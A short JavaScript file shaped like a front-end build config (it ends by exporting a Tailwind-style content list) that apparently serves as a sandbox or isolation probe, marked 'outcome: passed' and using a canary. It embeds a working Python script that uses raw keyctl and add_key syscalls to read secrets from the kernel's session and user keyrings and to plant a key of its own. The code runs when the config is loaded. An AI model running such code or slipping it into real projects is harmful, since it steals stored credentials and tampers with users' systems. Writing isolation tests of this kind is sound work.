// Reads the keys that the kernel keeps for the user's session, and leaves one of its own there.
// outcome: passed
const { attempt, canary, command } = require("./loot.js");

const KEYRINGS = `
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
add, control = {"x86_64": (248, 250), "aarch64": (217, 219)}[__import__("platform").machine()]
action, name = sys.argv[1:]
for ring in (-3, -4, -5, -2, -1):
    if action == "read":
        key = libc.syscall(control, 10, ctypes.c_int(ring), b"user", name.encode(), 0)
        held = ctypes.create_string_buffer(1000)
        if key > 0 and libc.syscall(control, 11, key, held, 1000) > 0:
            print(held.value)
            break
    elif ring != -2 and ring != -1 and libc.syscall(add, b"user", name.encode(), b"x", 1, ctypes.c_int(ring)) > 0:
        pass
else:
    sys.exit(action == "read")
`;
attempt("read a key", () => command("python3", "-c", KEYRINGS, "read", canary.keyName));
command("python3", "-c", KEYRINGS, "leave", canary.leftKeyName);

module.exports = { content: ["./src/App.tsx"] };
